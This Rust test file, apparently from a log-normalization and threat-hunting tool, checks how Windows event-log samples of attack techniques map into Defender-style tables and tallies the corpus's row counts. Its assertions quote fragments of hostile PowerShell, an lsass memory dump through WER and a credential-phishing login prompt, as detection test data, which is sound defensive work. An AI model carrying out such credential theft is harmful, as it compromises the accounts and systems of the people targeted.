        Timestamp=2020-10-20T11:51:01.4767229Z | DeviceName=DESKTOP-NTSSLJD | ActionType=DnsQueryResponse
        SourceEventId=22 | RemoteUrl=wpad | AdditionalFields=*
        InitiatingProcessFileName=svchost.exe | InitiatingProcessFolderPath=C:\Windows\System32\svchost.exe
        InitiatingProcessId=2428 | InitiatingProcessUniqueId={23f38d93-abac-5f8e-3900-000000000c00}
        ",
    );
    assert_eq!(serde_json::Value::Object(additional_fields(&row)), serde_json::json!({"DnsQueryString": "wpad", "QueryStatus": "9003"}));
}

#[test]
fn powershell_4104_becomes_a_powershell_command_device_event() {
    let Some(samples) = evtx_samples("powershell_4104_becomes_a_powershell_command_device_event") else { return };
    // A script block that dumps lsass through WER, from C:\Users\Public\lsass_wer_ps.ps1, in
    // powershell process 7008 (System/Execution/@ProcessID).
    let row = assert_row(
        &record(&samples, PS_LSASS, 971),
        "DeviceEvents",
        r"
        Timestamp=2020-06-30T14:24:08.2546050Z | DeviceName=MSEDGEWIN10 | ActionType=PowerShellCommand
        SourceEventId=4104 | InitiatingProcessId=7008 | AdditionalFields=*
        ",
    );
    let fields = additional_fields(&row);
    assert_eq!(fields.len(), 5, "{fields:?}");
    assert_eq!(json_str(&fields, "ScriptBlockId"), "27f08bda-c330-419f-b83b-eb5c0f699930");
    assert_eq!(json_str(&fields, "Path"), r"C:\Users\Public\lsass_wer_ps.ps1");
    assert_eq!(json_str(&fields, "MessageNumber"), "1");
    assert_eq!(json_str(&fields, "MessageTotal"), "1");
    let command = json_str(&fields, "Command");
    assert_eq!(command.chars().count(), 1538);
    assert!(command.starts_with("function Memory($path)\r\n{"));
    assert!(command.contains("$WER.GetNestedType('NativeMethods', 'NonPublic')"));
    assert!(command.ends_with("\"Memdump complete!\"\r\n\t\t}\r\n\t\r\n}"));

    // Typed at the prompt rather than run from a file: Path is empty and left out.
    let file = "Credential Access/phish_windows_credentials_powershell_scriptblockLog_4104.evtx";
    let row = tables::normalize(&record(&samples, file, 1123).event).unwrap();
    let fields = additional_fields(&row);
    assert!(!fields.contains_key("Path"), "{fields:?}");
    assert!(json_str(&fields, "Command").starts_with("function Invoke-LoginPrompt{\n$cred = $Host.ui.PromptForCredential("));
    assert_eq!(row.get("InitiatingProcessId"), Some(&Value::Int(5500)));
}

#[test]
fn raw_tables_follow_the_source_log_and_unmapped_events_have_no_row() {
    let Some(samples) = evtx_samples("raw_tables_follow_the_source_log_and_unmapped_events_have_no_row") else {
        return;
    };
    let cases = [
        // (file, record, raw table, normalized?)
        (SYSMON_1_3_11, 4129, "sysmon", true),
        (MALSECLOGON, 329914, "security", true),
        (PS_LSASS, 971, "powershell", true),
        // Channel `Windows PowerShell`, event 800 (pipeline execution): raw only.
        ("Other/emotet/exec_emotet_ps_800_get-item.evtx", 789, "powershell", false),
        // System 7045, a service installed: raw only.
        ("Lateral Movement/LM_Remote_Service02_7045.evtx", 4480, "system", false),
        // An ETW trace of Microsoft-Windows-RPC with no Channel element.
        ("Credential Access/etw_rpc_zerologon.evtx", 4, "other", false),
        // Security 4699 (task deleted) is normalized; 4985 (transaction state) is not.
        ("Execution/temp_scheduled_task_4698_4699.evtx", 566840, "security", true),
        ("Defense Evasion/Win_4985_T1186_Process_Doppelganging.evtx", 12294, "security", false),
    ];
    for (file, id, raw, normalized) in cases {
        let rec = record(&samples, file, id);
        assert_eq!(tables::raw_table(&rec.event), raw, "{file} record {id}");
        assert_eq!(tables::normalize(&rec.event).is_some(), normalized, "{file} record {id}");
    }
}

/// Tallies over every normalized row of the corpus.
#[derive(Default)]
struct Tally {
    tables: BTreeMap<&'static str, u64>,
    raw: BTreeMap<&'static str, u64>,
    values: BTreeMap<(&'static str, String), u64>,
    no_parent: u64,
}

impl Tally {
    fn add(&mut self, e: &Event, row: &Row) {
        let table = row.table.name;
        *self.tables.entry(table).or_default() += 1;
        let what = format!("{} record {}", e.source.path.display(), e.record_id);
        // `taskhunt events -t NAME` keeps the rows whose table is, by address, `table(NAME)`.
        assert!(std::ptr::eq(row.table, tables::table(table).unwrap()), "{what}: {table} is another copy");
        assert_eq!(row.values.len(), row.table.columns.len(), "{what}");
        for ((col, ty), v) in row.table.columns.iter().zip(&row.values) {
            let ok = match (ty, v) {
                (_, Value::Null) => true,
                (ColumnType::Long, Value::Int(_) | Value::UInt(_)) => true,
                (ColumnType::String, Value::Str(s)) => !s.is_empty() && &**s != "-",
                (ColumnType::Timestamp, Value::Str(s)) => Timestamp::parse(s) == Some(e.timestamp),
                _ => false,
            };
            assert!(ok, "{what}: {table}.{col} = {v:?}");
        }
        assert_eq!(row.get("SourceEventId").and_then(Value::as_i64), Some(i64::from(e.event_id)), "{what}");
        let cell = |col| row.get(col).map(|v| v.to_string()).unwrap_or_default();
        match table {
            "DeviceNetworkEvents" => {
                *self.values.entry(("Protocol", cell("Protocol"))).or_default() += 1;
                *self.values.entry(("ActionType", cell("ActionType"))).or_default() += 1;
            }
            "DeviceRegistryEvents" => {
                let hive = cell("RegistryKey").split('\\').next().unwrap_or_default().to_string();
                *self.values.entry(("hive", hive)).or_default() += 1;
            }
            "DeviceProcessEvents" if row.get("InitiatingProcessFileName").is_none() => self.no_parent += 1,
            _ => {}
        }
    }

    fn count(&self, what: &'static str, value: &str) -> u64 {
        self.values.get(&(what, value.to_string())).copied().unwrap_or(0)
    }
}

#[test]
fn whole_corpus_row_counts_types_and_fixed_values() {
    let Some(samples) = evtx_samples("whole_corpus_row_counts_types_and_fixed_values") else { return };
    let mut tally = Tally::default();
    read_paths(
        &[samples],
        &ReadOptions::default(),
        |batch| {
            for e in &batch.events {
                *tally.raw.entry(tables::raw_table(e)).or_default() += 1;
                if let Some(row) = tables::normalize(e) {
                    let report = format!("{}:{}", batch.path.display(), e.record_id);
                    assert_eq!(row.get("ReportId"), Some(&Value::from(report)));
                    tally.add(e, &row);
                }
            }
        },
        |_, _| {},
    );
    // Counted with a script over `evtx_dump -o jsonl` of every file, by channel and event id:
    // Sysmon 1 (1491) + Security 4688 (42); Sysmon 3; Sysmon 11 (209) + 23 (3); Sysmon 12 (95)
    // + 13 (223); Sysmon 7; Security 4624 (87) + 4625 (1) + 4634 (2); Security 4698 (3), 4699
    // (3) and 4702 (5), Sysmon 22 (1) and PowerShell 4104 (4).
    let want: BTreeMap<&str, u64> = [
        ("DeviceProcessEvents", 1533),
        ("DeviceNetworkEvents", 164),
        ("DeviceFileEvents", 212),
        ("DeviceRegistryEvents", 318),
        ("DeviceImageLoadEvents", 654),
        ("DeviceLogonEvents", 90),
        ("DeviceEvents", 16),
    ]
    .into();
    assert_eq!(tally.tables, want);
    // Sysmon/Operational; Security; PowerShell/Operational (7) and Windows PowerShell (4);
    // System; everything else, 415 of them without a Channel.
    let want: BTreeMap<&str, u64> = [("sysmon", 3241), ("security", 1577), ("powershell", 11), ("system", 17), ("other", 3409)].into();
    assert_eq!(tally.raw, want);
    // Sysmon 3: Protocol tcp 126, udp 38; Initiated true 77, false 87.
    assert_eq!((tally.count("Protocol", "Tcp"), tally.count("Protocol", "Udp")), (126, 38));
    assert_eq!(tally.count("ActionType", "ConnectionSuccess"), 77);
    assert_eq!(tally.count("ActionType", "InboundConnectionAccepted"), 87);
    // TargetObject prefixes: HKLM 181, HKU\S-1-... 121, HKCR 15, HKU\.DEFAULT 1.
    assert_eq!(tally.count("hive", "HKEY_LOCAL_MACHINE"), 181);
    assert_eq!(tally.count("hive", "HKEY_CURRENT_USER"), 121);
    assert_eq!(tally.count("hive", "HKEY_CLASSES_ROOT"), 15);
    assert_eq!(tally.count("hive", "HKEY_USERS"), 1);
    // No parent to name: 19 Sysmon 1 with ParentImage `?`, 2 with `-`, and the 35 Security
    // 4688 of versions 0 and 1, which have no ParentProcessName.
    assert_eq!(tally.no_parent, 56);
}
